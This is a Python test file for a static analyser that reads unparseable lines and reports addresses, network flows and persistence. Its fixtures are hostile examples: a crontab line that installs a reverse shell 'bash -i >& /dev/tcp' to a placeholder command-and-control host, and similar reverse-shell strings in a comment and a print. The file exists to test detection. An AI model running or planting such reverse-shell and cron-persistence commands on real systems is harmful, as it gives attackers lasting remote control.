"""Lines that do not parse still name what they name."""

from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.engine.gather import PYTHON, Facts
from pratique.analysis.facts import Capability, Taint
from pratique.analysis.languages.python.broken import read_broken
from tests.analysis.languages.python.reading import facts

BROKEN = """import os
def f(x):
    return x
os.system("(crontab -l ; echo "* * * * * bash -i >& /dev/tcp/c2.invalid/99 0>&1") | crontab -")
get("https://sink.invalid/a" "b' c
"""


def test_addresses_places_and_back_channels_of_broken_lines_are_told() -> None:
    found = facts(BROKEN)
    assert "https://sink.invalid/a" in [address.value for address in found.addresses]
    assert ("/dev/tcp", "/dev/tcp/c2.invalid/99") in [(use.api, use.argument) for use in found.uses]
    assert (Capability.PROCESS, "/dev/tcp/c2.invalid/99", (Taint.NETWORK,)) in [
        (flow.sink, flow.target, flow.taints) for flow in found.flows
    ]
    assert Capability.PERSISTENCE in [use.capability for use in found.uses]


def test_a_comment_and_a_plain_broken_line_say_nothing() -> None:
    gathered = Facts(PYTHON)
    read_broken([(1, "# bash -i >& /dev/tcp/h/1"), (2, "x = = 'ssh -i key'")], gathered)
    assert (gathered.uses, gathered.flows, gathered.addresses) == ({}, {}, {})


def test_a_file_of_python_2_is_not_broken() -> None:
    assert facts("print 'bash -i >& /dev/tcp/h/1'\n").flows == ()


@given(st.lists(st.tuples(st.integers(1, 9), st.text(max_size=60))))
def test_any_lines_are_read(lines: list[tuple[int, str]]) -> None:
    read_broken(lines, Facts(PYTHON))
